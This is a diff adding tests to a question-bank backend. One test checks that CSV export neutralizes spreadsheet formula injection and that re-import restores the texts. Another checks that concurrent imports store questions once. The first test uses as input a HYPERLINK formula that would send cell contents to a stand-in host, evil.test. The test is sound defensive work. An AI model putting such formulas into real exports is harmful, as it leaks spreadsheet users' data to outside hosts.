@@ -223,6 +223,26 @@ describe("an import", () => {
     expect(await counts()).toEqual(before);
   });
 
+  it("of an export with formulas restores the texts that the export neutralized", async () => {
+    const admin = await startBackend().as(ADMIN);
+    const formula = '=HYPERLINK("http://evil.test/?"&A1)';
+    const options = ["+1+1", "-2", "@SUM(A1)", "'=1"].map((text) => ({ text }));
+    const formulas = draft(formula, { options, explanation: "\t=1 is one" });
+    await (await check(admin, [formulas])).store();
+    const { text } = await admin("GET", `${T}/questions/export?format=csv`);
+    const line = text.split("\r\n").find((one) => one.includes("HYPERLINK")) ?? "";
+    for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1)"`, "'+1+1", "'-2", "'@SUM(A1)", "''=1"])
+      expect(line).toContain(`,${cell},`);
+    expect(line).not.toMatch(/(?:^|,)"?[=+@-]/);
+    const { rows } = await readFile(new TextEncoder().encode(text).buffer, {
+      name: "bank.csv",
+      format: null,
+      encoding: null,
+      defaults: {},
+    });
+    expect(rows.find(({ draft: read }) => read?.text === formula)?.draft?.options).toMatchObject(options);
+  });
+
   it("finds duplicates among all questions of a bank of more than 5,000", async () => {
     await (await check(admin, [draft("Oldest")])).store();
     await fillBank(backend.store, 2, 5000);
@@ -589,6 +609,23 @@ describe("before an import gets the lock of its tenant", () => {
     ]);
     const texts = (await store.list("questions")).map(({ text }) => text);
     expect(texts.filter((text) => text === "One")).toHaveLength(1);
+  });
+
+  it("another administrator's import of the same file stores each question once", async () => {
+    const { as, store } = startBackend();
+    const rows = Array.from({ length: 30 }, (_, index) => draft(`At once ${index}`, { domain: "Alarms" }));
+    const checks = await Promise.all([check(await as(ADMIN), rows), check(await as(INGE), rows)]);
+    expect(checks.map(({ summary }) => summary.fresh)).toEqual([30, 30]);
+    const replies = await Promise.all(checks.map(({ store: storeRows }) => storeRows()));
+    // The second gets 409 because the bank has changed, or skips the questions that the first has stored.
+    expect(replies.map(({ status }) => status)).toContain(200);
+    for (const { status } of replies) expect([200, 409]).toContain(status);
+    const texts = (await store.list("questions")).map(({ text }) => text);
+    expect(texts.filter((text) => text.startsWith("At once"))).toHaveLength(30);
+    for (const name of ["Fire Safety", "Alarms"]) {
+      const places = [...(await store.list("categories")), ...(await store.list("subcategories"))];
+      expect(places.filter((place) => place.name === name)).toHaveLength(1);
+    }
   });
 
   it("a mock exam that is filled makes it store nothing", async () => {
